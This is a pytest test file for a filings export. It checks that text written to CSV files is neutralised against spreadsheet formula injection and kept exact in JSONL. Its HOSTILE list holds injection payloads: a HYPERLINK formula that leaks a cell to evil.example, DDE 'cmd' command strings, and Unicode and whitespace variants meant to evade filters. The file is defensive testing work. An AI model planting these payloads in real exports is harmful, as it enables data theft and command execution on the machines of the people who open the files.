"""Filing CSVs cannot attack the inspector who opens them (MB2018-10, PA2017-7, PA2020-19 filings).

Every text column of every record set, whatever a user wrote into it, reaches a spreadsheet as text:
a cell a spreadsheet would evaluate as a formula is filed with a leading single quote (OWASP), and
the JSONL beside it keeps the exact text. Columns are read from the record sets, so a new column is
covered without touching this file.
"""

from __future__ import annotations

import csv
import io
import json
import re
import unicodedata
from decimal import Decimal
from pathlib import Path

import pytest

from chalicelib.filings import files as filing_files, rules
from chalicelib.filings.files import FilingFiles

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1", "\r=1+1", "\tplain after a tab", "\rplain after a return",
    "＝HYPERLINK(\"http://evil.example\")", "＋1+1", "－1+1", "＠SUM(A1)",  # full width
    "﹦1+1", "﹢1", "﹣1", "﹫SUM(A1)",  # small forms
    "  =1+1", "\u3000=1+1", "\u00a0+1", "\n=1+1", " \t @SUM(A1)", "\u200b=1+1", "\ufeff-1",  # after blanks
    "  ＝1+1",
]
HARMLESS = ["示例资讯", "a=b", "1-2", "2026-11-01T00:00:00Z", "'quoted", "", " 信息技术服务", "E******78"]
TEXT_COLUMNS = [(s, key) for s in rules.RECORD_SETS for key, _ in s.columns if key not in s.numeric]
NUMERIC_COLUMNS = [(s, key) for s in rules.RECORD_SETS for key in sorted(s.numeric)]


def written(monkeypatch: pytest.MonkeyPatch, record_set: rules.RecordSet, records: list[dict]) -> dict[str, bytes]:
    """The CSV and JSONL bytes a filing run would upload for `records`, by kind."""
    uploaded: dict[str, bytes] = {}
    def keep(bucket: str, key: str, path: str, content_type: str) -> None:
        uploaded[key.rsplit(".", 1)[1]] = Path(path).read_bytes()

    monkeypatch.setattr(filing_files, "_multipart", keep)  # what S3 would receive, without S3
    with FilingFiles() as files:
        for record in records:
            files.add("11", record_set, record)
        files.upload("bucket", "filings/t/2026-11/")
    return uploaded


def csv_rows(blob: bytes) -> list[list[str]]:
    assert blob.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(blob.decode("utf-8-sig"), newline="")))


def formula_like(cell: str) -> bool:
    """What a spreadsheet would evaluate: a formula start after blanks, or a leading tab or return."""
    stripped = re.sub(r"^[\s\u200b\ufeff]+", "", cell)
    return cell[:1] in ("\t", "\r") or unicodedata.normalize("NFKC", stripped[:1])[:1] in ("=", "+", "-", "@")


@pytest.mark.parametrize(("record_set", "key"), TEXT_COLUMNS, ids=[f"{s.name}.{k}" for s, k in TEXT_COLUMNS])
def test_a_hostile_text_in_any_column_is_filed_as_text_and_kept_exact_in_jsonl(monkeypatch, record_set, key):
    # GIVEN records whose `key` holds what an attacker wrote (names, statements, scopes reach filings verbatim)
    records = [{"subject_id": "sub_1", key: value} for value in HOSTILE + HARMLESS]
    # WHEN they are filed
    uploaded = written(monkeypatch, record_set, records)
    # THEN the CSV read back has a quote in front of every formula start and nothing else changed
    header, *rows = csv_rows(uploaded["csv"])
    column = [k for k, _ in record_set.columns].index(key)
    assert header == [title for _, title in record_set.columns]
    assert [r[column] for r in rows] == ["'" + v for v in HOSTILE] + HARMLESS
    assert not any(formula_like(cell) for r in rows for cell in r)
    # AND the JSONL holds every text exactly as written
    filed = [json.loads(line) for line in uploaded["jsonl"].decode().splitlines()]
    assert [f[key] for f in filed] == HOSTILE + HARMLESS


@pytest.mark.parametrize(("record_set", "key"), NUMERIC_COLUMNS, ids=[f"{s.name}.{k}" for s, k in NUMERIC_COLUMNS])
def test_a_numeric_column_keeps_its_numbers_and_still_neutralizes_text(monkeypatch, record_set, key):
    # GIVEN a numeric column holding numbers, negative ones included, and a text smuggled into it
    values = [2, -3, 0, "=1+1", "-1+cmd|' /C calc'!A0"]
    uploaded = written(monkeypatch, record_set, [{key: v} for v in values])
    # WHEN read back THEN numbers are numbers as written and the texts are quoted
    _, *rows = csv_rows(uploaded["csv"])
    column = [k for k, _ in record_set.columns].index(key)
    assert [r[column] for r in rows] == ["2", "-3", "0", "'=1+1", "'-1+cmd|' /C calc'!A0"]
    # AND a number as DynamoDB returns it is a number too
    assert rules.csv_cell(record_set, key, Decimal("-4")) == "-4"
    # BUT the same number in a text column is text, and filed as such
    assert rules.csv_cell(record_set, "subject_name", Decimal("-4")) == "'-4"


def test_a_list_or_a_missing_value_becomes_a_safe_cell():
    accounts = [{"account_id": "acc_1", "name": "=HYPERLINK(\"x\")"}]
    cell = rules.csv_cell(rules.MULTI_ACCOUNT_SUBJECTS, "accounts", accounts)
    assert json.loads(cell) == accounts and not formula_like(cell)
    assert rules.csv_cell(rules.PUBLIC_ACCOUNTS, "name", None) == ""
    assert rules.csv_cell(rules.PUBLIC_ACCOUNTS, "name", True) == "True"


def test_every_header_is_plain_text():
    assert all(rules.spreadsheet_text(title) == title for s in rules.RECORD_SETS for _, title in s.columns)


def test_the_filings_are_the_only_csv_the_product_writes():
    # GIVEN the product's source WHEN something starts writing CSV elsewhere THEN it must go through csv_cell
    root = Path(rules.__file__).resolve().parents[1]
    writers = {p.relative_to(root).as_posix() for p in root.rglob("*.py")
               if re.search(r"csv\.(writer|DictWriter)\(", p.read_text())}
    assert writers == {"filings/files.py"}
